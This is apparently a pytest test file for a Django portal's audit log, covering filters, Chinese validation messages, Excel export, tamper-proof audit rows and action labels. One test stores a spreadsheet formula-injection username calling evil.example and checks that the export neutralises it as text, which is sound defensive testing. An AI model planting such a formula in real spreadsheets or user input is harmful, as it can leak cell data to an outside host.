import datetime as dt
from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from portal.models import AuditEvent
from portal.services import audit_record
from tests.portal.test_audit_chain import chained


@pytest.fixture
def events(people):
    audit_record(action=AuditEvent.Action.LOGIN, actor=people.centre)
    audit_record(action=AuditEvent.Action.LOGIN_FAILED, username="mallory", result=AuditEvent.Result.FAILURE)
    # Written 40 days ago (an audit row cannot be backdated afterwards: the chain and, on PostgreSQL, the trigger).
    chained(timezone.now() - dt.timedelta(days=40), AuditEvent.Action.LOGIN, actor=people.city_nanning)


def test_admin_filters_the_audit_log(events, people, client_for):
    client = client_for(people.admin)
    page = client.get(reverse("audit_list"), {"result": "failure"}).content.decode()
    assert "mallory" in page and "centre" not in page.split("<tbody>")[1]
    since = (timezone.localdate() - dt.timedelta(days=7)).isoformat()
    page = client.get(reverse("audit_list"), {"date_from": since}).content.decode()
    body = page.split("<tbody>")[1]
    assert "centre" in body and "city_nanning" not in body


def test_bad_filter_dates_get_a_chinese_message_and_keep_the_input(events, people, client_for):
    page = (
        client_for(people.admin)
        .get(reverse("audit_list"), {"date_from": "2026-11-20", "date_to": "2026-11-01", "username": "mall"})
        .content.decode()
    )
    assert "截止日期不能早于起始日期" in page
    assert 'value="mall"' in page


def test_export_is_an_excel_file_with_the_filtered_rows(events, people, client_for):
    response = client_for(people.admin).get(reverse("audit_export"), {"action": "login_failed"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:2] == ("时间", "用户名")
    assert [row[1] for row in rows[1:]] == ["mallory"]
    assert rows[1][4] == "登录失败"


def test_audit_events_cannot_be_changed_or_deleted(events):
    event = AuditEvent.objects.first()
    event.detail = "tampered"
    with pytest.raises(ValidationError):
        event.save()
    with pytest.raises(ValidationError):
        event.delete()


def test_a_formula_typed_as_a_user_name_is_exported_as_text(people, client_for):
    audit_record(
        action=AuditEvent.Action.LOGIN_FAILED, username='=HYPERLINK("http://evil.example/"&A2,"x")', result="failure"
    )
    response = client_for(people.admin).get(reverse("audit_export"))
    names = [cell for cell in load_workbook(BytesIO(response.content)).active["B"] if "HYPERLINK" in str(cell.value)]
    assert [(cell.data_type, cell.value[:11]) for cell in names] == [("s", "'=HYPERLINK")]


def test_every_action_the_code_records_has_a_label():
    import re
    from pathlib import Path

    from filings.workflow import TABLES
    from portal.models import Role

    root = Path(__file__).resolve().parents[2]
    written = set()
    apps = ("portal", "agencies", "publicity", "filings", "supervision", "certificates")
    for path in [path for app in apps for path in root.glob(f"{app}/**/*.py")]:
        written |= set(re.findall(r'audit_record\(\s*action="([a-z_]+)"', path.read_text(), re.S))
        written |= set(re.findall(r'\baction="([a-z_]+)",\s*(?:request|actor)', path.read_text()))
    # Officials' steps are recorded as application_<transition> (filings.services.review); the agency's own
    # steps (submit, withdraw) by their services under the names found above.
    written |= {
        f"application_{t.name}" for table in TABLES.values() for t in table if t.target and t.role != Role.AGENCY
    }
    assert sorted(written - set(AuditEvent.Action.values)) == []
